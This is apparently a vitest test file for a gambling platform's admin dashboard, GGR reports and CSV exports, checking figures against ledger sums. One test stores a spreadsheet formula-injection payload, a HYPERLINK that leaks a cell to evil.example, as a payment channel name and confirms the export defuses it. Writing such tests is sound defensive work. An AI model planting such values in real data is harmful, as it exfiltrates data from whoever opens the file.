import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { sql } from 'drizzle-orm';
import {
  BalanceReportSchema,
  ChannelMoneyReportSchema,
  DashboardSchema,
  formatAmountMinor,
  GgrReportSchema,
  type PlaceLotteryBetsBody,
} from '@app/contracts';
import { queryRows } from '../../db/client.ts';
import { buildTestApp, OPERATOR_AUTH } from '../../testing/test-app.ts';
import { bearer } from '../../testing/auth-helpers.ts';
import {
  buildMember,
  fund,
  uniqueId,
  vendorCall,
  type TestMember,
} from '../../testing/factories.ts';
import { freshAddress } from '../../testing/operators.ts';
import { merchantDay } from '../../lib/merchant-day.ts';
import { toBigInt } from '../ledger/ledger.repository.ts';
import { checkLedger } from '../ledger/ledger.service.ts';

// The dashboard and the reports on the demo data, after a day of activity through the API:
// deposits, withdrawals (paid and rejected), vendor bets, wins and rollbacks, a trial account's
// play, lottery bets with a settled win and a cancelled draw's refund. Every figure must equal
// the sums read straight from the ledger tables here.

// The lottery's clock: Monday 3 March 2031, 15:00 in Vietnam, before the day's draws (the
// transfers themselves are dated now, like every transfer).
let lotteryNow = new Date('2031-03-03T08:00:00Z');
const NORTH_SHEET =
  '12345~67890~11122,33344~55566,77788,99900,12312,45645,78978~1234,5678,9012,3456~7890,1357,2468,1122,3344,5566~123,456,789~12,34,56,45';

let app: FastifyInstance;
const today = merchantDay(new Date());
const dayOffset = (days: number) =>
  new Date(Date.parse(`${today}T00:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);
// Yesterday to tomorrow: a test that runs across midnight (UTC+7) still sees all of its activity.
const FROM = dayOffset(-1);
const TO = dayOffset(1);

const admin = (url: string, method: 'GET' | 'POST' | 'PUT' = 'GET', payload?: object) =>
  app.inject({
    method,
    url,
    headers: OPERATOR_AUTH,
    remoteAddress: freshAddress(),
    ...(payload ? { payload } : {}),
  });
const asMember = (member: TestMember, url: string, payload: object) =>
  app.inject({
    method: 'POST',
    url,
    headers: bearer(member.token),
    remoteAddress: freshAddress(),
    payload,
  });

async function deposit(member: TestMember, channelCode: string, amount: string) {
  const asked = await asMember(member, '/wps/deposit/bank', {
    channelCode,
    amount,
    reference: `NAP ${member.account}`,
  });
  expect(asked.statusCode).toBe(201);
  const confirmed = await admin(`/wps/admin/deposits/${asked.json().value.id}/confirm`, 'POST', {});
  expect(confirmed.statusCode).toBe(200);
}

async function withdraw(member: TestMember, amounts: string[]) {
  const bind = await asMember(member, '/wps/withdraw/bank-accounts', {
    bankCode: 'TCB',
    accountName: 'Tran Thi B',
    accountNo: '19036612345678',
    loginPassword: 'Demo1234',
  });
  await asMember(member, '/wps/withdraw/payment-password', {
    paymentPassword: '246810',
    confirmPaymentPassword: '246810',
    loginPassword: 'Demo1234',
  });
  const ids: number[] = [];
  for (const amount of amounts) {
    const res = await asMember(member, '/wps/withdraw', {
      bankAccountId: bind.json().value.id,
      amount,
      paymentPassword: '246810',
    });
    expect(res.statusCode).toBe(201);
    ids.push(res.json().value.id);
  }
  return ids;
}

/** A vendor round: a bet, then a win (closing the round) or a rollback. */
async function round(
  member: TestMember,
  vendorCode: string,
  stake: string,
  outcome: { win: string } | 'rollback',
) {
  const roundId = uniqueId('round');
  const base = {
    playerId: member.accountNo,
    currency: 'VND',
    roundId,
    gameCode: `${vendorCode}-g1`,
  };
  const bet = { ...base, requestId: uniqueId('req'), transactionId: uniqueId('tx'), amount: stake };
  expect((await vendorCall(app, 'bet', bet, { vendorCode })).status).toBe('OK');
  const next = { ...base, requestId: uniqueId('req'), transactionId: uniqueId('tx') };
  const answer =
    outcome === 'rollback'
      ? await vendorCall(
          app,
          'rollback',
          { ...next, amount: stake, betTransactionId: bet.transactionId },
          { vendorCode },
        )
      : await vendorCall(
          app,
          'win',
          { ...next, amount: outcome.win, betTransactionId: bet.transactionId, roundClosed: true },
          { vendorCode },
        );
  expect(answer.status).toBe('OK');
}

function lotteryBets(member: TestMember, body: Omit<PlaceLotteryBetsBody, 'requestId'>) {
  return asMember(member, '/wps/lottery/bets', { requestId: uniqueId('lot'), ...body });
}

let alice: TestMember;
let bob: TestMember;

beforeAll(async () => {
  app = await buildTestApp({}, { lottery: { clock: () => lotteryNow, demoResults: false } });
  await app.lottery.tick(lotteryNow);
  alice = await buildMember(app);
  bob = await buildMember(app);
  const trial = await buildMember(app, { type: 4 });
  await fund(app, alice, '3000000');
  await deposit(alice, 'BANK_VCB', '500000');
  await deposit(alice, 'BANK_VCB', '250000.50');
  await deposit(bob, 'BANK_VCB', '1000000');
  const [paid, returned] = await withdraw(alice, ['100000', '60000']);
  expect((await admin(`/wps/admin/withdrawals/${paid}/approve`, 'POST', {})).statusCode).toBe(200);
  expect(
    (await admin(`/wps/admin/withdrawals/${returned}/reject`, 'POST', { reason: 'name' }))
      .statusCode,
  ).toBe(200);
  await round(alice, 'JL', '1000', { win: '2500' });
  await round(alice, 'JL_FISH', '700', { win: '0.00' });
  await round(bob, 'BGS', '300', 'rollback');
  await round(bob, 'BGS', '4000', { win: '150.25' });
  await round(trial, 'BGS', '5000', { win: '9000' }); // trial money: in no figure
  // Lottery: a North bet that wins once the result is in, a Ho Chi Minh City bet refunded.
  const north = await lotteryBets(bob, {
    gameId: '101',
    numero: '20310303',
    bets: [
      { betType: 'DE', numbers: ['45'], stake: '1000' }, // GB 12345 → 80,000
      { betType: 'LO2', numbers: ['98'], stake: '1000' }, // lost
    ],
  });
  expect(north.statusCode).toBe(200);
  const south = await lotteryBets(alice, {
    gameId: '301',
    numero: '20310303',
    bets: [{ betType: 'DE', numbers: ['11'], stake: '2000' }],
  });
  expect(south.statusCode).toBe(200);
  expect(
    (
      await admin('/wps/admin/lottery/cancel', 'POST', {
        gameId: '301',
        numero: '20310303',
        reason: 'not held',
      })
    ).statusCode,
  ).toBe(200);
  lotteryNow = new Date('2031-03-03T11:15:00Z');
  await app.lottery.tick(lotteryNow);
  const result = await admin('/wps/admin/lottery/result', 'POST', {
    gameId: '101',
    numero: '20310303',
    winningNumber: NORTH_SHEET,
  });
  expect(result.statusCode).toBe(200);
});
afterAll(async () => {
  expect((await checkLedger(app.db)).ok).toBe(true);
  await app.close();
});

/** Sums per transfer kind over the range, straight from the ledger, real wallets only. */
async function ledgerSums(): Promise<Map<string, { n: number; sum: bigint }>> {
  const from = new Date(`${FROM}T00:00:00+07:00`).toISOString();
  const to = new Date(Date.parse(`${TO}T00:00:00+07:00`) + 86_400_000).toISOString();
  const rows = await queryRows<{ kind: string; n: number; sum: unknown }>(
    app.db,
    sql`select t.kind, count(*)::int as n, sum(t.amount_minor)::text as sum
          from ledger_transfers t
          join ledger_accounts da on da.id = t.debit_account_id
          join ledger_accounts ca on ca.id = t.credit_account_id
         where t.created_at >= ${from} and t.created_at < ${to}
           and (da.kind in ('member_wallet', 'pending_withdrawal') or ca.kind = 'member_wallet')
         group by t.kind`,
  );
  return new Map(rows.map((r) => [r.kind, { n: Number(r.n), sum: toBigInt(r.sum) }]));
}

describe('the dashboard on the demo data', () => {
  it('answers deposits, withdrawals, bets and wins equal to the ledger’s sums', async () => {
    const res = await admin(`/wps/admin/dashboard?from=${FROM}&to=${TO}`);
    expect(res.statusCode).toBe(200);
    const dashboard = DashboardSchema.parse(res.json().value);
    const sums = await ledgerSums();
    const of = (kind: string) => sums.get(kind) ?? { n: 0, sum: 0n };
    const amount = (minor: bigint) => formatAmountMinor(minor);
    expect(dashboard.totals.deposits).toEqual({
      count: of('deposit').n,
      amount: amount(of('deposit').sum),
    });
    expect(dashboard.totals.withdrawals).toEqual({
      count: of('withdrawal_paid').n,
      amount: amount(of('withdrawal_paid').sum),
    });
    const bets =
      of('bet').sum + of('lottery_bet').sum - of('rollback').sum - of('lottery_refund').sum;
    const wins = of('win').sum + of('lottery_win').sum;
    expect(dashboard.totals.bets).toBe(amount(bets));
    expect(dashboard.totals.wins).toBe(amount(wins));
    expect(dashboard.totals.ggr).toBe(amount(bets - wins));
    // And the figures are the activity above (the trial account's round left out).
    expect(dashboard.totals.deposits).toEqual({ count: 3, amount: '1750000.50' });
    expect(dashboard.totals.withdrawals).toEqual({ count: 1, amount: '100000.00' });
    // Stakes 1,000 + 700 + 300 + 4,000 + 2,000 (lottery, North) + 2,000 (lottery, HCM),
    // less the 300 rolled back and the 2,000 refunded.
    expect(dashboard.totals.bets).toBe('7700.00');
    expect(dashboard.totals.wins).toBe('82650.25');
    expect(dashboard.totals.firstDeposits).toEqual({ count: 2, amount: '1500000.00' });
  });

  it('splits GGR by vendor and category, and per day, adding up to the totals', async () => {
    const dashboard = DashboardSchema.parse(
      (await admin(`/wps/admin/dashboard?from=${FROM}&to=${TO}`)).json().value,
    );
    const vendor = (key: string) => dashboard.byVendor.find((v) => v.key === key);
    expect(vendor('JL')).toMatchObject({ category: 'RNG', bets: '1000.00', wins: '2500.00' });
    expect(vendor('JL_FISH')).toMatchObject({ category: 'FISH', bets: '700.00', ggr: '700.00' });
    expect(vendor('BGS')).toMatchObject({ bets: '4000.00', wins: '150.25', ggr: '3849.75' });
    expect(vendor('LOTT')).toMatchObject({ category: 'LOTT', bets: '2000.00', wins: '80000.00' });
    const minor = (a: string) => BigInt(a.replace('.', ''));
    const sum = (lines: { bets: string; wins: string }[], key: 'bets' | 'wins') =>
      formatAmountMinor(lines.reduce((s, l) => s + minor(l[key]), 0n));
    for (const lines of [dashboard.byVendor, dashboard.byCategory, dashboard.series]) {
      expect(sum(lines, 'bets')).toBe(dashboard.totals.bets);
      expect(sum(lines, 'wins')).toBe(dashboard.totals.wins);
    }
    expect(dashboard.series.map((d) => d.day)).toEqual([FROM, today, TO]);
    const day = dashboard.series.find((d) => d.day === today)!;
    expect(day.deposits).toEqual(dashboard.totals.deposits);
    expect(day.activePlayers).toBe(dashboard.totals.activePlayers);
  });

  it('counts registrations and active players as the tables do', async () => {
    const dashboard = DashboardSchema.parse(
      (await admin(`/wps/admin/dashboard?from=${FROM}&to=${TO}`)).json().value,
    );
    const [registered] = await queryRows<{ n: number }>(
      app.db,
      sql`select count(*)::int as n from members where type <> 4`,
    );
    expect(dashboard.totals.registrations).toBe(Number(registered!.n));
    // alice and bob bet, deposited or withdrew; the trial account and the demo accounts did not.
    expect(dashboard.totals.activePlayers).toBe(2);
  });

  it('refuses a range backwards, too long or malformed', async () => {
    for (const query of [
      `from=${TO}&to=${FROM}`,
      'from=2025-01-01&to=2026-12-31',
      'from=2026-02-30&to=2026-03-01',
      `from=${FROM}`,
    ]) {
      const res = await admin(`/wps/admin/dashboard?${query}`);
      expect(res.statusCode, query).toBe(400);
      expect(res.json().code).toBe('request.invalid');
    }
  });
});

describe('reports', () => {
  it('GGR by day, vendor and category add up to the dashboard', async () => {
    const dashboard = DashboardSchema.parse(
      (await admin(`/wps/admin/dashboard?from=${FROM}&to=${TO}`)).json().value,
    );
    for (const groupBy of ['day', 'vendor', 'category'] as const) {
      const res = await admin(`/wps/admin/reports/ggr?from=${FROM}&to=${TO}&groupBy=${groupBy}`);
      const report = GgrReportSchema.parse(res.json().value);
      expect(report.total).toEqual({
        bets: dashboard.totals.bets,
        wins: dashboard.totals.wins,
        ggr: dashboard.totals.ggr,
      });
    }
    const byVendor = GgrReportSchema.parse(
      (await admin(`/wps/admin/reports/ggr?from=${FROM}&to=${TO}&groupBy=vendor`)).json().value,
    );
    expect(byVendor.rows.map((r) => r.key).sort()).toEqual(
      dashboard.byVendor.map((v) => v.key).sort(),
    );
    expect(byVendor.rows.find((r) => r.key === 'BGS')?.label).toBe('BGS Gaming');
  });

  it('deposits by channel and withdrawals by bank', async () => {
    const res = await admin(`/wps/admin/reports/money-by-channel?from=${FROM}&to=${TO}`);
    const report = ChannelMoneyReportSchema.parse(res.json().value);
    expect(report.deposits).toEqual({ count: 3, amount: '1750000.50' });
    expect(report.withdrawals).toEqual({ count: 1, amount: '100000.00' });
    expect(report.rows).toEqual([
      {
        direction: 'deposit',
        channel: 'BANK_VCB',
        name: 'Chuyển khoản Vietcombank',
        count: 3,
        amount: '1750000.50',
      },
      {
        direction: 'withdrawal',
        channel: 'Techcombank',
        name: 'Techcombank',
        count: 1,
        amount: '100000.00',
      },
    ]);
  });

  it('member balances in total against the ledger check', async () => {
    const report = BalanceReportSchema.parse(
      (await admin('/wps/admin/reports/balances')).json().value,
    );
    expect(report.ok).toBe(true);
    expect(report.sumOfBalances).toBe('0.00');
    const [wallets] = await queryRows<{ n: number; total: unknown }>(
      app.db,
      sql`select count(*)::int as n, coalesce(sum(balance_minor), 0)::text as total
            from ledger_accounts where kind = 'member_wallet'`,
    );
    expect(report.memberWallets).toEqual({
      kind: 'member_wallet',
      accounts: Number(wallets!.n),
      balance: formatAmountMinor(toBigInt(wallets!.total)),
      entries: formatAmountMinor(toBigInt(wallets!.total)),
      difference: '0.00',
    });
    expect(report.rows.every((r) => r.difference === '0.00')).toBe(true);
  });
});

describe('CSV exports (format=csv)', () => {
  it('answer a CSV file with a byte order mark and one line per row', async () => {
    const res = await admin(`/wps/admin/reports/ggr?from=${FROM}&to=${TO}&format=csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="ggr-day-${FROM}-${TO}.csv"`,
    );
    const lines = res.body.split('\r\n');
    expect(lines[0]).toBe('\uFEFFkey,label,bets,wins,ggr');
    expect(lines).toHaveLength(1 + 3 + 1 + 1); // header, three days, the total, the last CRLF
    expect(lines[4]).toMatch(/^TOTAL,TOTAL,7700\.00,82650\.25,-74950\.25$/);
    const balances = await admin('/wps/admin/reports/balances?format=csv');
    expect(balances.body.split('\r\n')[0]).toBe('\uFEFFkind,accounts,balance,entries,difference');
  });

  it('defuse a channel name a spreadsheet would run as a formula', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const saved = await admin('/wps/admin/payment/channels/EVIL_BANK', 'PUT', {
      kind: 'bank_transfer',
      name: evil,
      minAmount: '1000',
      maxAmount: '100000000',
      bank: {
        bankName: '@SUM(1+1)',
        accountName: '-2+3',
        accountNo: '0071000999999',
        loginPassword: 'Demo1234',
      },
    });
    expect(saved.statusCode).toBe(200);
    await deposit(alice, 'EVIL_BANK', '12345');
    const res = await admin(`/wps/admin/reports/money-by-channel?from=${FROM}&to=${TO}&format=csv`);
    const line = res.body.split('\r\n').find((l) => l.includes('EVIL_BANK'));
    expect(line).toBe(
      `deposit,EVIL_BANK,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",1,12345.00`,
    );
    // Every cell of the file: none starts with a formula character (amounts aside).
    for (const row of res.body.replace('\uFEFF', '').split('\r\n').filter(Boolean)) {
      for (const cell of row.match(/("([^"]|"")*"|[^,]*)/g)!.filter(Boolean)) {
        const text = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        if (/^-?\d+(\.\d+)?$/.test(text)) continue;
        expect(text, row).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});
